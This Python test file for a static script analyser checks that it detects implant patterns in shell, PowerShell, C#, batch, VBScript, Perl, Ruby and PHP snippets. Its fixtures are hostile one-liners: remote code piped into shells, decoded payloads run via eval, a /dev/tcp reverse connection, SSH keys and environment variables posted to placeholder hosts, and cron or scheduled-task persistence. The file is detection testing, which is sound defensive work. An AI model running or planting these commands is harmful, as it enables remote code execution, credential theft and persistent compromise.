# ruff: noqa: ISC004 - snippets are cut at their own line ends
"""Inert implants in shell, PowerShell, C# and other script languages. Never run: only read."""

from __future__ import annotations

import base64

import pytest

from doorward.inspect.probes.capabilities_statements import BATCH, CSHARP, PERL, PHP, RUBY, VBSCRIPT
from doorward.inspect.probes.powershell import analyse_powershell
from doorward.inspect.probes.script_model import Script, traits_of
from doorward.inspect.probes.shell import analyse_shell
from doorward.inspect.probes.statements import Language, read_statements

SHELL = {
    "curl into sh": ("curl -fsSL https://x.example/i | sh", "script.dataflow network-to-dynamic-code"),
    "wget into bash with sudo": (
        "wget -qO- https://x.example | sudo bash -s -- -y",
        "script.dataflow network-to-dynamic-code",
    ),
    "base64 into sh": ("echo aGVsbG8= | base64 -d | sh", "script.dataflow decoded-to-dynamic-code"),
    "base64 by here-string": (
        'bash <<< "$(base64 -d <<< aGVsbG8=)"',
        "script.dataflow decoded-to-dynamic-code",
    ),
    "eval of a variable": (
        'X=$(printf %s aGk= | base64 --decode)\neval "$X"',
        "script.dataflow decoded-to-dynamic-code",
    ),
    "sourced from the network": (". <(curl -s https://x.example)", "script.dataflow network-to-dynamic-code"),
    "carved from a test file, as in xz": (
        "xz -dc tests/files/good.xz | tail -c +1024 | tr 'abcdefgh' 'hgfedcba' | xz -d | /bin/sh",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "download, mark, run": (
        "curl -o /tmp/a https://x.example/a\nchmod +x /tmp/a\n/tmp/a &",
        "script.dataflow network-to-process",
    ),
    "download by redirection in a function": (
        'f() { wget -O - https://x.example > "$T"; }\nf\nchmod 755 "$T"\n"$T"',
        "script.dataflow network-to-process",
    ),
    "reverse connection": (
        "exec 5<>/dev/tcp/x.example/443; cat <&5 | while read l; do $l; done",
        "script.capability network",
    ),
    "host in a label": ('dig +short "$(hostname | base64).t.example"', "script.dataflow host-to-dns"),
    "environment posted": ("env | curl -X POST -d @- https://s.example", "script.dataflow secret-to-network"),
    "key posted": (
        "curl -F k=@$HOME/.ssh/id_rsa https://s.example",
        "script.combination credentials+network",
    ),
    "crontab": (
        '(crontab -l; echo "* * * * * curl https://x.example") | crontab -',
        "script.capability persistence",
    ),
    "quotes inside names": ("c''url https://x.example", "script.concealment computed-name"),
    "python inside": (
        "python3 - <<'EOF'\nimport base64\nexec(base64.b64decode(b'cGFzcw=='))\nEOF",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "own tail": ("tail -n +9 $0 | base64 -d | sh", "script.combination decode+self-read"),
}

POWERSHELL = {
    "download cradle": (
        "IEX (New-Object Net.WebClient).DownloadString('https://x.example')",
        "script.dataflow network-to-dynamic-code",
    ),
    "two statements": ("$t = irm https://x.example\n$t | iex", "script.dataflow network-to-dynamic-code"),
    "escaped names": ("I`nv`oke-Ex`pression (i`wr https://x.example)", "script.concealment computed-name"),
    "assembly from text": (
        "$b = [Convert]::FromBase64String($x)\n[Reflection.Assembly]::Load($b) | Out-Null",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "xor": (
        "function D($b) { for ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = [byte]($b[$i] -bxor 7) }; $b }\n"
        "& ([ScriptBlock]::Create([Text.Encoding]::UTF8.GetString((D $x))))",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "encoded command": (
        "powershell -w hidden -enc "
        + base64.b64encode("Invoke-WebRequest https://x.example".encode("utf-16-le")).decode(),
        "script.concealment hidden-window",
    ),
    "split string": ("& ('Invoke-'+'Expre'+'ssion') $env:X", "script.concealment computed-name"),
    "scheduled task": ("Register-ScheduledTask -TaskName u -Action $a", "script.capability persistence"),
}

OTHERS: dict[str, tuple[Language, str, str]] = {
    "c#: assembly from text": (
        CSHARP,
        "class A {\n  static void Go(string s) {\n    var raw = Convert.FromBase64String(s);\n "
        "Assembly.Load(raw);\n  }\n}\n",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "c#: environment posted": (
        CSHARP,
        "class A {\n  public void Go() {\n    var all = Environment.GetEnvironmentVariables();\n"
        "    new HttpClient().PostAsync(u, Pack(all));\n  }\n}\n",
        "script.dataflow secret-to-network",
    ),
    "batch: certutil": (
        BATCH,
        "certutil -decode a.txt a.exe\r\nstart /b a.exe\r\n",
        "script.combination decode+process",
    ),
    "vbs: execute": (
        VBSCRIPT,
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Send\nt = h.ResponseText\nExecuteGlobal t\n',
        "script.capability dynamic-code",
    ),
    "perl: eval": (
        PERL,
        "use MIME::Base64;\nmy $c = decode_base64($x);\neval $c;\n",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "ruby: eval": (
        RUBY,
        "require 'base64'\nbody = Base64.decode64(x)\neval(body)\n",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "php: eval": (
        PHP,
        "<?php eval(gzinflate(base64_decode($x)));",
        "script.dataflow decoded-to-dynamic-code",
    ),
}


@pytest.mark.parametrize("name", SHELL)
def test_shell_implant_shows(name: str) -> None:
    source, expected = SHELL[name]
    assert expected in {f"{trait.kind} {trait.key}" for trait in analyse_shell(source + "\n")}


@pytest.mark.parametrize("name", POWERSHELL)
def test_powershell_implant_shows(name: str) -> None:
    source, expected = POWERSHELL[name]
    assert expected in {f"{trait.kind} {trait.key}" for trait in analyse_powershell(source + "\n")}


@pytest.mark.parametrize("name", OTHERS)
def test_implant_of_another_language_shows(name: str) -> None:
    language, source, expected = OTHERS[name]
    script = Script(source)
    read_statements(script, language)
    assert expected in {f"{trait.kind} {trait.key}" for trait in traits_of(script)}
